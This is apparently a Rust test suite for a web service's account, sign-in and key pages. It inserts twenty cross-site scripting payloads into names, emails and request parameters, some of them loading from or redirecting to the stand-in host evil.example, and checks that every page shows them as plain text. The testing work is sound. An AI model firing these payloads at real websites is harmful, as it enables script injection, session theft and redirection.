//! Hostile texts in every field that a page shows.

use super::guest::Guest;
use crate::world::World;
use serde_json::{Value, json};

/// What would run, load, or lead away, if it were markup.
const MARKUP: [&str; 20] = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<object data=data:text/html,<script>alert(1)</script>></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>go</a>",
    "<math><mtext></mtext><a href=javascript:alert(1)>go</a></math>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<form action=//evil.example><button>go</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
];
/// What would first end the place in which the text stands.
const ENDS: [&str; 3] = ["", "\"'>", "</title></textarea></p></dd>"];

/// Says how the page would differ if a text had become markup.
const MADE: &str = r#"
const elements = [...document.querySelectorAll("*")];
const foreign = "script, img, iframe, object, embed, math, base, style, video, details, meta[http-equiv], a[href^=javascript]";
return {
  elements: elements.length,
  foreign: document.querySelectorAll(foreign).length,
  handlers: elements.filter((e) => [...e.attributes].some(({ name }) => name.startsWith("on"))).length,
  text: document.body.innerText,
};
"#;

fn hostile() -> Vec<String> {
    ENDS.into_iter().flat_map(|end| MARKUP.map(|markup| format!("{end}{markup}"))).collect()
}

/// Looks at the page; returns its number of elements if nothing became markup.
async fn elements(guest: &Guest, shown: &str) -> u64 {
    let made = guest.run(MADE).await;
    assert_eq!((&made["foreign"], &made["handlers"]), (&json!(0), &json!(0)), "{shown}");
    let text = made["text"].as_str().unwrap();
    assert!(text.contains(shown), "{shown:?} is not shown as it is: {text}");
    assert_eq!(refusals(guest).await, Vec::<String>::new(), "{shown}");
    made["elements"].as_u64().unwrap()
}

/// What Chromium refused by the policy of the page: with inert texts, nothing.
async fn refusals(guest: &Guest) -> Vec<String> {
    let console = guest.chromium.console().await.unwrap();
    console.into_iter().filter(|line| line.contains("Content Security Policy")).collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn i_18_sixty_hostile_texts_are_texts_wherever_names_and_addresses_are_shown() {
    let world = World::start().await;
    let guest = Guest::at(&world).await;
    guest.open("/account").await;
    guest.sign_in().await;
    crate::own_pages::let_in(&world, &guest).await;
    guest.open("/account/keys").await;
    guest.send("make", &[("label", "a key")]).await;
    let mut counts = Vec::new();

    for text in hostile() {
        world.change("UPDATE clients SET name = $1", &text).await;
        world.change("UPDATE workspaces SET name = $1", &text).await;
        guest.ask(&[("state", &text), ("login_hint", &text)]).await;
        let confirm = elements(&guest, &text).await;
        // An address holds neither blanks nor capitals.
        let address = format!("{}@example.org", text.replace(' ', "/").to_lowercase());
        world.change("UPDATE users SET email = $1", &address).await;
        guest.open("/account").await;
        let account = elements(&guest, &address).await;
        world.change("UPDATE refresh_families SET name = $1, tool = $1, machine = $1", &text).await;
        guest.open("/account/sessions").await;
        let sessions = elements(&guest, &text).await;
        world.change("UPDATE access_keys SET label = $1, models = $1", &text).await;
        guest.open("/account/keys").await;
        counts.push((confirm, account, sessions, elements(&guest, &text).await));
    }

    assert_eq!(counts.len(), 60);
    counts.dedup();
    assert_eq!(counts.len(), 1, "every text makes the same page: {counts:?}");
    guest.chromium.close().await.unwrap();
}

#[tokio::test(flavor = "multi_thread")]
async fn i_18_hostile_texts_in_parameters_are_texts_or_not_shown() {
    let world = World::start().await;
    let guest = Guest::at(&world).await;
    guest.ask(&[]).await;
    let usual = guest.run(MADE).await["elements"].clone();

    for text in hostile() {
        guest.ask(&[("login_hint", &text), ("state", &text)]).await;
        let hint = guest.run("return document.querySelector('#email').value").await;
        assert_eq!(hint, json!(text));
        let page: Value = guest.run(MADE).await;
        assert_eq!((&page["elements"], &page["foreign"]), (&usual, &json!(0)), "{text}");
        guest.ask(&[("client_id", &text), ("redirect_uri", &text)]).await;
        assert!(!guest.chromium.text().await.unwrap().contains("alert(1)"), "{text}");
    }
    assert_eq!(refusals(&guest).await, Vec::<String>::new());

    // The policy is there to be broken: what is not inert would have been seen.
    guest.run("document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=alert(1)>')").await;
    while refusals(&guest).await.is_empty() {}
    guest.chromium.close().await.unwrap();
}
